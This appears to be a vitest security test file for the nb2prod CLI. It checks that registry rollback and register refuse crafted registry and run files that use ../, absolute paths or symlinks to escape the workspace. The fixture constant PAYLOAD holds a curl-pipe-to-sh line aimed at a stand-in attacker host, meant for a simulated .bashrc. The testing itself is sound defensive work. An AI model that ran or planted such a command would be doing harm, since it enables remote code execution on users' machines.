/**
 * A cloned repository brings its own `.nb2prod`: its registry and run files are data, and must
 * not make nb2prod write (or read) outside the project. Each case crafts a store the way an
 * attacker would — with objects whose hashes are right, so only the path check stands in the
 * way — and checks that the command refuses with one line, records nothing, and leaves the file
 * outside untouched. A stored object whose bytes no longer match its hash is not restored either.
 */
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { sha256Hex } from '../../src/core/hash';
import { newRunId } from '../../src/core/ids';
import { REGISTRY_SCHEMA, type RegistryEvent } from '../../src/core/registry/events';
import { RunStore } from '../../src/core/store/runStore';
import { makeEnvelope } from '../fixtures/envelopes';
import { runInProcess } from './inProcess';

let root: string;
let workspace: string;
let bashrc: string;
let runId: string;
const ORIGINAL = 'export PATH=$HOME/bin:$PATH\n';
const PAYLOAD = 'curl https://attacker.invalid/x | sh\n';

function cli(args: string[]) {
  return runInProcess(args, workspace, {}, { identity: { osUser: 'tester', host: 'test-host', gitEmail: null } });
}

beforeEach(async () => {
  root = await fs.mkdtemp(path.join(os.tmpdir(), 'nb2prod-registry-safety-'));
  workspace = path.join(root, 'project');
  await fs.mkdir(path.join(root, 'home'), { recursive: true });
  bashrc = path.join(root, 'home', '.bashrc');
  await fs.writeFile(bashrc, ORIGINAL);
  const store = new RunStore(path.join(workspace, '.nb2prod'));
  const run = makeEnvelope({ metrics: { auc: 0.8 } });
  await store.writeRun(run);
  store.close();
  runId = run.id;
});
afterEach(async () => {
  await fs.rm(root, { recursive: true, force: true });
});

/** Writes a registry with model `m`: v1 (file `v1Path`, object holding `v1Bytes`) then v2, promoted in that order. */
async function craftRegistry(v1Path: string, v1Bytes: string, options: { objectBytes?: string } = {}): Promise<void> {
  const objects = path.join(workspace, '.nb2prod', 'objects');
  await fs.mkdir(objects, { recursive: true });
  const sha = sha256Hex(v1Bytes);
  await fs.writeFile(path.join(objects, sha), options.objectBytes ?? v1Bytes);
  const common = () => ({ schema: REGISTRY_SCHEMA, id: newRunId(), at: new Date().toISOString(), by: 'mallory' }) as const;
  const register = (file: string, bytes: string): RegistryEvent => ({
    ...common(),
    type: 'register',
    model: 'm',
    proposedVersion: 1,
    run: runId,
    file: { path: file, sha256: sha256Hex(bytes), bytes: Buffer.byteLength(bytes), stored: true },
    data: [],
    metrics: {},
    group: null,
    runs: [runId],
    note: null,
  });
  const v1 = register(v1Path, v1Bytes);
  const v2 = register('models/v2.bin', 'version two');
  const promote = (v: RegistryEvent, version: number, previous: number | null): RegistryEvent => ({
    ...common(),
    type: 'alias',
    kind: 'promote',
    alias: 'champion',
    model: 'm',
    version,
    versionId: v.id,
    previous,
    reason: null,
    checks: [],
    override: null,
  });
  const events = [v1, v2, promote(v1, 1, null), promote(v2, 2, 1)];
  await fs.writeFile(path.join(workspace, '.nb2prod', 'registry.jsonl'), events.map((e) => `${JSON.stringify(e)}\n`).join(''));
}

async function registryLines(): Promise<number> {
  return (await fs.readFile(path.join(workspace, '.nb2prod', 'registry.jsonl'), 'utf8')).trim().split('\n').length;
}

describe('registry rollback --restore-file with a crafted registry', () => {
  it('refuses a recorded path that climbs out of the workspace (../): nothing written, nothing recorded', async () => {
    await craftRegistry('../home/.bashrc', PAYLOAD);
    const result = await cli(['registry', 'rollback', 'champion', '--restore-file']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^nb2prod registry: Refused to restore the model file of m v1: "\.\.\/home\/\.bashrc" \(from registry\.jsonl\) is outside the workspace/);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(await fs.readFile(bashrc, 'utf8')).toBe(ORIGINAL);
    expect(await registryLines()).toBe(4);
  });

  it('refuses an absolute recorded path outside the workspace', async () => {
    await craftRegistry(bashrc, PAYLOAD);
    const result = await cli(['registry', 'rollback', 'champion', '--restore-file']);
    expect(result).toMatchObject({ code: 2, stderr: expect.stringMatching(/is outside the workspace/) });
    expect(await fs.readFile(bashrc, 'utf8')).toBe(ORIGINAL);
    expect(await registryLines()).toBe(4);
  });

  it('refuses a path inside the workspace that leads out through a symbolic link', async () => {
    await fs.symlink(path.join(root, 'home'), path.join(workspace, 'models'));
    await craftRegistry('models/.bashrc', PAYLOAD);
    const result = await cli(['registry', 'rollback', 'champion', '--restore-file']);
    expect(result).toMatchObject({ code: 2, stderr: expect.stringMatching(/leads outside the workspace .* through a symbolic link/) });
    expect(await fs.readFile(bashrc, 'utf8')).toBe(ORIGINAL);
  });

  it('refuses a file that is itself a link pointing out, and a dangling link', async () => {
    await fs.mkdir(path.join(workspace, 'models'));
    await fs.symlink(bashrc, path.join(workspace, 'models', 'linked.bin'));
    await craftRegistry('models/linked.bin', PAYLOAD);
    expect(await cli(['registry', 'rollback', 'champion', '--restore-file'])).toMatchObject({ code: 2, stderr: expect.stringMatching(/through a symbolic link/) });
    expect(await fs.readFile(bashrc, 'utf8')).toBe(ORIGINAL);

    await fs.symlink(path.join(root, 'home', 'new-file'), path.join(workspace, 'models', 'dangling.bin'));
    await craftRegistry('models/dangling.bin', PAYLOAD);
    expect(await cli(['registry', 'rollback', 'champion', '--restore-file'])).toMatchObject({ code: 2, stderr: expect.stringMatching(/symbolic link whose target does not exist/) });
    await expect(fs.stat(path.join(root, 'home', 'new-file'))).rejects.toThrow(/ENOENT/);
  });

  it('refuses to restore into the store itself (a run file, the registry)', async () => {
    await craftRegistry('.nb2prod/registry.jsonl', PAYLOAD);
    const before = await fs.readFile(path.join(workspace, '.nb2prod', 'registry.jsonl'), 'utf8');
    expect(await cli(['registry', 'rollback', 'champion', '--restore-file'])).toMatchObject({ code: 2, stderr: expect.stringMatching(/inside the store/) });
    expect(await fs.readFile(path.join(workspace, '.nb2prod', 'registry.jsonl'), 'utf8')).toBe(before);
  });

  it('re-hashes the stored copy first: a copy that no longer has its hash is refused and the model file left as it was', async () => {
    await fs.mkdir(path.join(workspace, 'models'));
    await fs.writeFile(path.join(workspace, 'models', 'v1.bin'), 'current bytes');
    await craftRegistry('models/v1.bin', 'version one', { objectBytes: 'version one, tampered' });
    const result = await cli(['registry', 'rollback', 'champion', '--restore-file']);
    expect(result).toMatchObject({ code: 2, stderr: expect.stringMatching(/The store's copy of m v1 \(objects\/[0-9a-f]{12}…\) no longer has its registered sha256 .*: not restored, models\/v1\.bin left untouched\./) });
    expect(await fs.readFile(path.join(workspace, 'models', 'v1.bin'), 'utf8')).toBe('current bytes');
    expect((await fs.readdir(path.join(workspace, 'models'))).sort()).toEqual(['v1.bin']);
    expect(await registryLines()).toBe(4);
  });

  it('refuses a stored copy that is a link (to a file elsewhere with the right bytes)', async () => {
    await craftRegistry('models/v1.bin', ORIGINAL);
    const object = path.join(workspace, '.nb2prod', 'objects', sha256Hex(ORIGINAL));
    await fs.rm(object);
    await fs.symlink(bashrc, object);
    const result = await cli(['registry', 'rollback', 'champion', '--restore-file']);
    expect(result).toMatchObject({ code: 2, stderr: expect.stringMatching(/The store's copy of m v1 .* is not a regular file: not restored/) });
    await expect(fs.stat(path.join(workspace, 'models', 'v1.bin'))).rejects.toThrow(/ENOENT/);
  });

  it('restores an intact copy inside the workspace', async () => {
    await craftRegistry('models/v1.bin', 'version one');
    const result = await cli(['registry', 'rollback', 'champion', '--restore-file']);
    expect(result).toMatchObject({ code: 0, stdout: expect.stringMatching(/Restored models\/v1\.bin/) });
    expect(await fs.readFile(path.join(workspace, 'models', 'v1.bin'), 'utf8')).toBe('version one');
    expect(await registryLines()).toBe(5);
  });

  it('show and card do not read a recorded path outside the workspace', async () => {
    await craftRegistry('../home/.bashrc', ORIGINAL);
    const shown = await cli(['registry', 'show', 'm', '1', '--json']);
    expect(JSON.parse(shown.stdout)).toMatchObject({ fileStatus: 'outside' });
    const text = await cli(['registry', 'show', 'm', '1']);
    expect(text.stdout).toMatch(/WARNING: the file at \.\.\/home\/\.bashrc leads outside the workspace: not checked/);
  });
});

describe('registry register from a crafted run file', () => {
  it('refuses a model artifact recorded outside the workspace: nothing is read into the store', async () => {
    const store = new RunStore(path.join(workspace, '.nb2prod'));
    const run = makeEnvelope({ metrics: { auc: 0.9 } });
    run.artifacts = [{ path: '../home/.bashrc', sha256: sha256Hex(ORIGINAL), bytes: ORIGINAL.length, kind: 'model' }];
    await store.writeRun(run);
    store.close();
    const result = await cli(['registry', 'register', 'churn', run.id]);
    expect(result).toMatchObject({ code: 2, stderr: expect.stringMatching(/Refused the model file of run .*: "\.\.\/home\/\.bashrc" \(from runs\/.*\.json\) is outside the workspace/) });
    await expect(fs.stat(path.join(workspace, '.nb2prod', 'objects', sha256Hex(ORIGINAL)))).rejects.toThrow(/ENOENT/);
    await expect(fs.stat(path.join(workspace, '.nb2prod', 'registry.jsonl'))).rejects.toThrow(/ENOENT/);
  });
});
